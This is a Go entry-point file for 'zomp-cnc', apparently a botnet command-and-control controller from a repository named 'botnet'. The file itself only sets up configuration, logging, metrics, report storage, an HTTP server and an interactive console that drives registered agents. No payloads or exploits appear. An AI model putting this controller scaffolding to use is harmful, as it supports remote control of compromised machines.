// ABOUTME: Entry point for the zomp-cnc controller.
// ABOUTME: Accepts agent registrations and drives them from an interactive console.

package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"time"

	"github.com/fatih/color"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/liaoxmichael/botnet/internal/config"
	"github.com/liaoxmichael/botnet/internal/controller"
	"github.com/liaoxmichael/botnet/internal/store"
)

// Version is set at build time.
var version = "dev"

const banner = `
 _______  _____  ______  _____        _____ __   _ _____
  ____/  |     | |  |  | |_____]  ___ |      | \  | |
 /_____  |_____| |  |  | |            |_____ |  \_| |_____
`

// getConfigPath returns the path to the controller config file.
// Priority: ZOMP_CONFIG env var > XDG_CONFIG_HOME/zomp/cnc.yaml > ~/.config/zomp/cnc.yaml
func getConfigPath() string {
	if envPath := os.Getenv("ZOMP_CONFIG"); envPath != "" {
		return envPath
	}

	configDir := os.Getenv("XDG_CONFIG_HOME")
	if configDir == "" {
		homeDir, err := os.UserHomeDir()
		if err != nil {
			return "cnc.yaml" // fallback
		}
		configDir = filepath.Join(homeDir, ".config")
	}

	return filepath.Join(configDir, "zomp", "cnc.yaml")
}

func main() {
	configPath := flag.String("config", "", "path to config file (default: ZOMP_CONFIG or XDG lookup)")
	flag.Parse()

	if err := run(*configPath); err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}
}

func run(configPath string) error {
	if configPath == "" {
		configPath = getConfigPath()
	}

	// Print banner
	cyan := color.New(color.FgCyan)
	cyan.Print(banner)
	gray := color.New(color.FgHiBlack)
	gray.Printf("    version: %s\n\n", version)

	// A missing config file is fine; the defaults run a local controller.
	cfg, err := config.Load(configPath)
	if errors.Is(err, os.ErrNotExist) {
		cfg = config.Default()
		configPath = "(defaults)"
	} else if err != nil {
		return fmt.Errorf("loading config: %w", err)
	}

	logger := setupLogger(cfg.Logging)
	slog.SetDefault(logger)

	green := color.New(color.FgGreen)
	green.Print("    ▶ ")
	fmt.Printf("Config:   %s\n", configPath)
	green.Print("    ▶ ")
	fmt.Printf("Agents:   %s\n", cfg.Server.ListenAddr)
	green.Print("    ▶ ")
	fmt.Printf("Reports:  %s\n", cfg.Reports.Dir)
	if cfg.Server.HTTPAddr != "" {
		green.Print("    ▶ ")
		fmt.Printf("HTTP:     %s\n", cfg.Server.HTTPAddr)
	}
	fmt.Println()

	sink, err := controller.NewFileSink(cfg.Reports.Dir)
	if err != nil {
		return fmt.Errorf("creating report sink: %w", err)
	}

	var history store.Store
	if cfg.Database.Path != "" {
		sqliteStore, err := store.NewSQLiteStore(cfg.Database.Path)
		if err != nil {
			return fmt.Errorf("opening report history: %w", err)
		}
		defer sqliteStore.Close()
		history = sqliteStore
	}

	registry := prometheus.NewRegistry()
	mgr := controller.NewManager(controller.Params{
		Sink:    sink,
		History: history,
		Metrics: controller.NewMetrics(registry),
		Logger:  logger,
	})
	if err := mgr.Start(cfg.Server.ListenAddr); err != nil {
		return err
	}

	var httpServer *http.Server
	if cfg.Server.HTTPAddr != "" {
		var gatherer prometheus.Gatherer
		if cfg.Metrics.Enabled {
			gatherer = registry
		}
		httpServer = controller.NewHTTPServer(cfg.Server.HTTPAddr, mgr, gatherer, cfg.Metrics.Path)
		go func() {
			if err := httpServer.ListenAndServe(); err != nil && !errors.Is(err, http.ErrServerClosed) {
				logger.Error("http server failed", "error", err)
			}
		}()
	}

	// The console owns the foreground; agent traffic runs behind it.
	newConsole(os.Stdin, os.Stdout, mgr, history).run()

	mgr.Shutdown()
	if httpServer != nil {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		httpServer.Shutdown(ctx)
	}
	return nil
}

func setupLogger(cfg config.LoggingConfig) *slog.Logger {
	var level slog.Level
	switch cfg.Level {
	case "debug":
		level = slog.LevelDebug
	case "info":
		level = slog.LevelInfo
	case "warn":
		level = slog.LevelWarn
	case "error":
		level = slog.LevelError
	default:
		level = slog.LevelInfo
	}

	opts := &slog.HandlerOptions{
		Level: level,
	}

	var handler slog.Handler
	if cfg.Format == "json" {
		handler = slog.NewJSONHandler(os.Stdout, opts)
	} else {
		handler = &colorHandler{
			w:     os.Stderr,
			level: level,
		}
	}

	return slog.New(handler)
}
